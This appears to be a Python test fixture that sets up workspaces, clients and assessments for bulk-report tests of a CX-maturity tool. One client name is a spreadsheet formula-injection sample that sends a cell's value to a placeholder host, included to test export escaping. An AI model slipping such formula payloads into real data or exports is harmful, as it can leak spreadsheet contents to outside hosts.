"""A workspace with clients for the bulk-report tests: some assessed and closed in 2026-Q3."""

from __future__ import annotations

from dataclasses import dataclass

from factories import (
    cx_maturity,
    make_assessment,
    make_member,
    make_organization,
    make_respondent,
    make_workspace,
)

from cxmaturity.store.database import transaction
from cxmaturity.store.models import utc_now

PERIOD = "2026-Q3"
# Names a spreadsheet would run as a formula (issue 11, bad input), and umlauts.
NAMES = ("Müller & Söhne GmbH", '=HYPERLINK("http://x?"&A1)', "Ohne Abschluss AG")


@dataclass(frozen=True)
class BulkWorld:
    slug: str
    owner_id: int
    owner_email: str
    viewer_id: int
    client_ids: tuple[int, ...]
    """Clients 1 and 2 closed 2026-Q3; client 3 has only an open assessment of it."""
    other_slug: str
    other_client_id: int


def build_bulk_world(sessions, levels: dict[str, int] | None = None) -> BulkWorld:
    questionnaire = cx_maturity()
    answers = levels or {question_id: 3 for question_id in questionnaire.questions}
    with transaction(sessions) as session:
        workspace = make_workspace(session, name="Beratung Süd")
        owner = make_member(session, workspace, role="owner")
        viewer = make_member(session, workspace, role="viewer")
        ids = []
        for number, name in enumerate(NAMES):
            client = make_organization(session, name=name, workspace=workspace)
            ids.append(client.id)
            closed = number < 2
            assessment = make_assessment(
                session, organization=client, period=PERIOD, status="closed" if closed else "open"
            )
            if closed:
                assessment.closed_at = utc_now()
            make_respondent(
                session, assessment, name=f"CEO {number}", answers=answers, submitted=True
            )
        other = make_workspace(session, name="Andere Beratung")
        other_client = make_organization(session, name="Fremdkunde GmbH", workspace=other)
        make_assessment(session, organization=other_client, period=PERIOD, status="closed")
        return BulkWorld(
            workspace.slug,
            owner.id,
            owner.email,
            viewer.id,
            tuple(ids),
            other.slug,
            other_client.id,
        )
